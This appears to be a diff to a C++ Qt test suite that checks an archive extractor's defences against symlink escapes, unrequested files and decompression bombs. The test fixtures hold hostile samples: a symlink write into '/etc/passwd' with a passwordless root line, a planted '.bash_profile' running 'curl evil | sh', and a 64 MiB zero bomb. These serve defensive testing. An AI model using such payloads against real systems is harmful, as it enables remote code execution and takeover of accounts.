@@ -15,6 +15,7 @@
 #include <archive.h>
 #include <archive_entry.h>
 
+#include <optional>
 #include <thread>
 
 #include <sys/stat.h>
@@ -125,6 +126,37 @@ struct Outcome
     ArchiveTotals totals;
 };
 
+struct Options
+{
+    QStringList allowed;
+    std::optional<ArchiveTotals> expected;
+};
+
+struct Detailed
+{
+    ArchiveError error;
+    ArchiveTotals totals;
+    QMap<QString, QString> skippedLinks;
+    qint64 bytesDone = 0;
+};
+
+Detailed extractWith(const QByteArray &bytes, const QString &target, const Options &options)
+{
+    BoundedBuffer buffer(64 * 1024);
+    ArchiveExtractor extractor(&buffer, target);
+    extractor.setAllowedNames(options.allowed);
+    if (options.expected)
+        extractor.setExpectedTotals(*options.expected);
+    extractor.start();
+    std::thread feeder([&] {
+        if (buffer.write(bytes))
+            buffer.closeWriting();
+    });
+    extractor.wait();
+    feeder.join();
+    return {extractor.error(), extractor.extracted(), extractor.skippedLinks(), extractor.bytesDone()};
+}
+
 Outcome extract(const QByteArray &bytes, const QString &target)
 {
     BoundedBuffer buffer(64 * 1024);
@@ -154,6 +186,9 @@ private Q_SLOTS:
     void refused();
     void messageNamesTheEntry();
     void oddButSafeArchiveAccepted();
+    void linksOutsideSkipped();
+    void unrequestedTopLevelRefused();
+    void stopsAtTenPercentOverAnnounced();
 
 private:
     std::unique_ptr<QTemporaryDir> m_sandbox;
@@ -197,17 +232,10 @@ void TestArchiveSafety::refused_data()
                                << QByteArray("a/../../x");
     QTest::newRow("dot-dot folder") << ok + Entries {folderEntry("okdir/../..")} << K::OutsideTarget
                                     << QByteArray("okdir/../../"); // pax adds the slash
+    // A link out is skipped (linksOutsideSkipped); writing through it refuses the archive.
     QTest::newRow("symlink escape, then through it")
         << ok + Entries {linkEntry("link", "../../etc"), fileEntry("link/passwd", "root::0:0::/:/bin/sh\n")}
-        << K::OutsideTarget << QByteArray("link");
-    QTest::newRow("absolute symlink")
-        << ok + Entries {linkEntry("abs", "/etc")} << K::OutsideTarget << QByteArray("abs");
-    QTest::newRow("symlink deep escape")
-        << ok + Entries {linkEntry("okdir/up", "../../../outside/sentinel.txt")} << K::OutsideTarget
-        << QByteArray("okdir/up");
-    QTest::newRow("symlink chain escape") // each looks fine by name; together they leave
-        << ok + Entries {folderEntry("x"), linkEntry("a", "."), linkEntry("b", "a/x/../..")}
-        << K::OutsideTarget << QByteArray("b");
+        << K::ThroughLink << QByteArray("link/passwd");
     QTest::newRow("write through inner link")
         << ok + Entries {linkEntry("inner", "okdir"), fileEntry("inner/file")} << K::ThroughLink
         << QByteArray("inner/file");
@@ -340,6 +368,88 @@ void TestArchiveSafety::oddButSafeArchiveAccepted()
     QCOMPARE(::stat(QFile::encodeName(m_target + QStringLiteral("/open to all")).constData(), &world), 0);
     QCOMPARE(world.st_mode & 07777, mode_t(0777 & ~userUmask));
     QCOMPARE(QFileInfo(m_target + QStringLiteral("/late")).lastModified().toSecsSinceEpoch(), 1'600'000'000);
+}
+
+void TestArchiveSafety::linksOutsideSkipped()
+{
+    // Links that lead out of what was downloaded are not created and are named; everything else,
+    // links that stay inside included, arrives (finding 8: one such link used to fail it all).
+    const Entries entries {
+        folderEntry("proj"),
+        fileEntry("proj/a.txt", "a\n"),
+        linkEntry("proj/latest", "a.txt"), // inside: kept
+        linkEntry("proj/abs", "/etc"), // absolute
+        linkEntry("proj/up", "../../../outside/sentinel.txt"), // climbs out by name
+        linkEntry("proj/beside", "../other"), // lands beside the chosen items
+        folderEntry("proj/x"),
+        linkEntry("proj/dot", "."),
+        linkEntry("proj/chain", "dot/x/../../.."), // each fine by name; on disk it leaves
+        fileEntry("proj/b.txt", "b\n"),
+    };
+    ArchiveTotals expected;
+    expected.files = 2;
+    expected.folders = 2;
+    expected.symlinks = 6;
+    expected.bytes = 4;
+    const Detailed outcome =
+        extractWith(buildArchive(entries, 1), m_target, {{QStringLiteral("proj")}, expected});
+    QVERIFY2(!outcome.error, qPrintable(outcome.error.message()));
+    QCOMPARE(outcome.skippedLinks, (QMap<QString, QString> {{QStringLiteral("proj/abs"), QStringLiteral("/etc")},
+                                                            {QStringLiteral("proj/beside"), QStringLiteral("../other")},
+                                                            {QStringLiteral("proj/chain"), QStringLiteral("dot/x/../../..")},
+                                                            {QStringLiteral("proj/up"),
+                                                             QStringLiteral("../../../outside/sentinel.txt")}}));
+    QCOMPARE(outcome.totals, expected);
+    QCOMPARE(QDir(m_target + QStringLiteral("/proj"))
+                 .entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot),
+             (QStringList {QStringLiteral("a.txt"), QStringLiteral("b.txt"), QStringLiteral("dot"),
+                           QStringLiteral("latest"), QStringLiteral("x")}));
+    QCOMPARE(QFile::symLinkTarget(m_target + QStringLiteral("/proj/latest")), m_target + QStringLiteral("/proj/a.txt"));
+}
+
+void TestArchiveSafety::unrequestedTopLevelRefused()
+{
+    // A download of "results" into the home folder; the server adds a login script (finding 4).
+    QFile mine(m_target + QStringLiteral("/.bash_profile"));
+    QVERIFY(mine.open(QIODevice::WriteOnly));
+    mine.write("mine\n");
+    mine.close();
+    const QStringList before = tree(m_sandbox->path());
+    const Entries entries {folderEntry("results"), fileEntry("results/r.csv", "1,2\n"),
+                           fileEntry(".bash_profile", "curl evil | sh\n"), fileEntry("results2/x", "x\n")};
+    const Detailed outcome =
+        extractWith(buildArchive(entries, 2), m_target, {{QStringLiteral("results")}, std::nullopt});
+    QCOMPARE(outcome.error.kind(), ArchiveError::Kind::Unrequested);
+    QCOMPARE(outcome.error.path(), QStringLiteral(".bash_profile"));
+    QVERIFY(outcome.error.message().contains(QStringLiteral("“.bash_profile”, which was not asked for")));
+    QVERIFY(outcome.error.isUnsafeArchive());
+    QCOMPARE(tree(m_sandbox->path()), before);
+}
+
+void TestArchiveSafety::stopsAtTenPercentOverAnnounced()
+{
+    // Announced: one file of 1 MiB. Sent: 64 MiB of zeros (a few KiB compressed). Extraction
+    // stops at 1.1 MiB instead of filling the disk (finding 11).
+    const QByteArray huge(64 << 20, '\0');
+    ArchiveTotals announced;
+    announced.files = 1;
+    announced.bytes = 1 << 20;
+    const Detailed outcome =
+        extractWith(buildArchive({fileEntry("big.bin", huge)}, 1), m_target, {{}, announced});
+    QCOMPARE(outcome.error.kind(), ArchiveError::Kind::TooMuchData);
+    QCOMPARE(outcome.error.path(), QStringLiteral("big.bin"));
+    QVERIFY2(outcome.bytesDone <= (1 << 20) + (1 << 20) / 10, qPrintable(QString::number(outcome.bytesDone)));
+    QCOMPARE(QDir(m_target).entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot),
+             QStringList());
+
+    // And more entries than announced: 1 announced, 100 sent.
+    Entries many;
+    for (int i = 0; i < 100; ++i)
+        many.append(fileEntry("f" + QByteArray::number(i), {}));
+    ArchiveTotals one;
+    one.files = 1;
+    const Detailed counted = extractWith(buildArchive(many, 0), m_target, {{}, one});
+    QCOMPARE(counted.error.kind(), ArchiveError::Kind::TooMuchData);
 }
 
 QTEST_GUILESS_MAIN(TestArchiveSafety)
